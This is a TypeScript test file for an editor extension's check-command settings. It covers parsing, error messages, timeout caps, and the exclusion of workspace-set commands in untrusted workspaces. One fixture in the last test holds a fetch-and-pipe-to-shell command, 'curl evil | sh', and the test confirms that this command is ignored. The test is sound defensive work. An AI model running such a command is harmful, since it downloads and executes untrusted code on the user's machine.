import * as assert from 'node:assert/strict';
import { parseCheckCommands } from '../../src/core/engine/checkCommands';
import { RESTRICTED, snapshotSettings } from '../../src/core/setup/settings';
import type { ConfigReader, SettingLayers } from '../../src/core/setup/trust';
import { assertOneSentence } from '../support/checks';

const user = () => false;

/** A configuration with `checks` set in the given layers, the rest as a user set it. */
function layered(checks: SettingLayers<unknown>): ConfigReader {
  const values: Record<string, unknown> = { chain: ['qwen-7b'], llamaSwapUrl: 'http://127.0.0.1:8080' };
  const merged = { ...(checks.globalValue as object), ...(checks.workspaceValue as object), ...(checks.workspaceFolderValue as object) };
  return {
    get: <T>(key: string) => (key === 'checks' ? merged : values[key]) as T,
    inspect: <T>(key: string) => (key === 'checks' ? checks : { globalValue: values[key] }) as SettingLayers<T>,
  };
}

describe('hyperguild.checks', () => {
  it('a command is a string or { name, command, timeoutSeconds }; defaults: its command as its name, 30 s', () => {
    const r = parseCheckCommands({ python: ['ruff check {file}', { name: 'tests', command: ' pytest -x -q ', timeoutSeconds: 90 }] }, user);
    assert.deepEqual(r.problems, []);
    assert.deepEqual(r.commands.get('python'), [
      { languageId: 'python', name: 'ruff check {file}', command: 'ruff check {file}', timeoutMs: 30_000, fromWorkspace: false },
      { languageId: 'python', name: 'tests', command: 'pytest -x -q', timeoutMs: 90_000, fromWorkspace: false },
    ]);
  });

  it('each bad entry is left out with one sentence naming it and what to fix; the good ones stay', () => {
    const r = parseCheckCommands({
      python: ['', { command: 'ruff check' , timeout: 5 }, { name: 'x' }, { command: 'pytest', timeoutSeconds: 0 }, 42, 'mypy {file}'],
      go: 'go vet ./...',
      rust: [{ command: 'cargo check', timeoutSeconds: 900 }],
    }, user);
    assert.deepEqual(r.problems, [
      'hyperguild.checks "python" entry 1 ("") is invalid: the command is empty.',
      'hyperguild.checks "python" entry 2 ("ruff check") is invalid: it has an unknown field "timeout" (use name, command and timeoutSeconds).',
      'hyperguild.checks "python" entry 3 ({"name":"x"}) is invalid: it has no "command" field.',
      'hyperguild.checks "python" entry 4 ("pytest") is invalid: its "timeoutSeconds" must be a number of seconds above 0.',
      'hyperguild.checks "python" entry 5 (42) is invalid: it must be a command or an object with a "command" field.',
      'hyperguild.checks "go" must be a list of commands, for example ["ruff check {file}"].',
      'hyperguild.checks "rust" entry 1 ("cargo check") has timeoutSeconds 900, above its maximum of 600; 600 is used.',
    ]);
    for (const p of r.problems) assertOneSentence(p);
    assert.deepEqual(r.commands.get('python')?.map((c) => c.command), ['mypy {file}']);
    assert.equal(r.commands.get('rust')?.[0].timeoutMs, 600_000);
    assert.equal(r.commands.has('go'), false);
    const notObject = parseCheckCommands(['ruff check'], user);
    assert.equal(notObject.problems.length, 1);
    assert.match(notObject.problems[0], /^hyperguild\.checks must be an object of commands per language id, for example \{/);
    assertOneSentence(notObject.problems[0]);
  });

  it('the snapshot marks a language whose list a workspace or folder settings file set (its first run asks)', () => {
    const s = snapshotSettings(layered({ globalValue: { python: ['ruff check {file}'], go: ['go vet ./...'] }, workspaceValue: { python: ['pytest'] }, workspaceFolderValue: { rust: ['cargo check'] } }), layered({}), true);
    assert.deepEqual([...s.checks].map(([id, list]) => [id, list.map((c) => [c.command, c.fromWorkspace])]), [
      ['python', [['pytest', true]]], ['go', [['go vet ./...', false]]], ['rust', [['cargo check', true]]],
    ]);
  });

  it('restricted: in an untrusted workspace the workspace\'s commands are ignored (and named); the user\'s own stay', () => {
    assert.ok((RESTRICTED as readonly string[]).includes('checks'));
    const s = snapshotSettings(layered({ globalValue: { go: ['go vet ./...'] }, workspaceValue: { python: ['curl evil | sh'] } }), layered({}), false);
    assert.deepEqual([...s.checks.keys()], ['go']);
    assert.equal(s.checks.get('go')?.[0].fromWorkspace, false);
    assert.deepEqual(s.ignoredUntrusted, ['hyperguild.checks']);
  });
});
